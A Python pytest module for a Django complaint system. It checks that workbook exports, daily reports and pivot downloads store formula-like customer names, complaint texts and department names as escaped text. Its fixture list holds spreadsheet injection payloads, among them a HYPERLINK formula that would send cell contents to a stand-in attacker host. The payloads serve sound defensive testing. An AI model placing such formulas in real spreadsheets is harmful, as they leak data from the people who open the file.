"""Every workbook the system writes keeps a formula-like string as text (issue 13, item 3).

A complaint's content or a customer's name (or a department's name) that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with an apostrophe in front, as a string cell,
in the export, the report and the pivot workbook; ordinary text, numbers and dates are unchanged.
"""

import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from accounts.models import Department
from complaints.models import Category
from config.xlsx import append_safe, safe_text
from workorders.models import ExportJob, Report, WorkOrder
from workorders.stats.exports import export_build
from workorders.stats.reports import report_generate

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def assert_escaped(cell, original):
    # (XML reads a carriage return back as a line feed)
    assert cell.value == "'" + original.replace("\r", "\n"), (cell.coordinate, cell.value)
    assert cell.data_type == "s", (cell.coordinate, cell.data_type)


# --- the helper -----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_text_prefixes_an_apostrophe(value):
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize("value", ["张先生", "电压偏低 =1", "a-b", "3301234567", "", "'already"])
def test_safe_text_leaves_ordinary_text_alone(value):
    assert safe_text(value) == value


@pytest.mark.parametrize("write_only", [False, True])
def test_append_safe_writes_text_cells_and_keeps_other_values(write_only):
    # given
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    when = dt.datetime(2025, 3, 3, 10, 30)
    # when
    append_safe(ws, [*HOSTILE, "plain", -5, 1.5, when, None, "=again"])
    buf = io.BytesIO()
    wb.save(buf)
    # then
    row = next(load_workbook(io.BytesIO(buf.getvalue()))["s" if write_only else "Sheet"].iter_rows())
    for cell, value in zip(row, HOSTILE, strict=False):
        assert_escaped(cell, value)
    rest = row[len(HOSTILE) :]
    assert [c.value for c in rest] == ["plain", -5, 1.5, when, None, "'=again"]
    assert [c.data_type for c in rest[:3]] == ["s", "n", "n"] and rest[3].is_date
    assert rest[5].data_type == "s"


# --- the workbooks --------------------------------------------------------------------------------


@pytest.fixture
def hostile_orders(build):
    """One complaint per hostile string, as its customer's name and as its content."""
    return [build.register(customer_name=value, content=value).pk for value in HOSTILE]


def test_export_writes_hostile_names_and_contents_as_text(hostile_orders, users, media_tmp):
    # given
    job = ExportJob.objects.create(user=users["manager"], filters={})
    # when
    export_build(job.pk, language="en")
    # then
    job.refresh_from_db()
    with job.file.open("rb") as fh:
        ws = workbook(fh.read()).active
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    name, content = header.index("Customer"), header.index("Complaint content")
    received, urges = header.index("Received at"), header.index("Urges")
    by_tracking = {row[0].value: row for row in rows[1:]}
    for pk, value in zip(hostile_orders, HOSTILE, strict=True):
        order = WorkOrder.objects.select_related("complaint").get(pk=pk)
        row = by_tracking[order.tracking_no]
        assert_escaped(row[name], value)
        assert_escaped(row[content], value)
        # ordinary values are unchanged: the tracking number, a date, a number
        assert row[0].value == order.tracking_no and row[0].data_type == "s"
        assert row[received].is_date
        assert row[received].value.date() == timezone.localtime(order.received_at).date()
        assert row[urges].value == 0 and row[urges].data_type == "n"
    assert not any(c.data_type == "f" for row in rows for c in row)


@pytest.fixture
def hostile_unit(hostile_orders, depts):
    """The orders' unit takes a hostile name: the company itself (their customers name no supply
    unit), so the report's title starts with it too."""
    unit = WorkOrder.objects.get(pk=hostile_orders[0]).unit
    assert unit.pk == depts["BJ"].pk
    Department.objects.filter(pk=unit.pk).update(name=HOSTILE[0])
    unit.refresh_from_db()
    return unit


def test_report_writes_hostile_names_as_text(hostile_unit, build, hostile_orders, media_tmp):
    # given: the orders classified into a category renamed "-负责"
    for pk in hostile_orders:
        build.classify(pk)
    Category.objects.filter(code="04").update(name="-负责")
    tomorrow = timezone.localdate() + dt.timedelta(days=1)
    # when: the daily report of today
    report = report_generate(kind=Report.Kind.DAILY, today=tomorrow, company=hostile_unit)
    # then
    with report.file.open("rb") as fh:
        wb = workbook(fh.read())
    summary, by_unit, by_category = wb.worksheets[:3]
    title = summary["A1"]
    assert title.value.startswith("'" + HOSTILE[0]) and title.data_type == "s"
    assert summary["B4"].value == len(HOSTILE) and summary["B4"].data_type == "n"  # received
    by_unit = list(by_unit.iter_rows())
    assert_escaped(by_unit[1][0], HOSTILE[0])
    assert by_unit[1][1].value == len(HOSTILE) and by_unit[1][1].data_type == "n"
    by_category = list(by_category.iter_rows())
    assert_escaped(by_category[1][0], "-负责")
    assert by_category[2][0].value == "未分类"  # ordinary text as it was
    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_pivot_xlsx_writes_hostile_labels_as_text(hostile_unit, page_client_for):
    # when
    response = page_client_for("manager").get("/dashboard/pivot/?rows=unit&measure=count&format=xlsx")
    # then
    assert response.status_code == 200
    ws = workbook(response.content).active
    rows = list(ws.iter_rows())
    line = next(row for row in rows if row[0].value == "'" + HOSTILE[0])
    assert line[0].data_type == "s"
    assert line[-1].value == len(HOSTILE) and line[-1].data_type == "n"
    assert not any(c.data_type == "f" for row in rows for c in row)
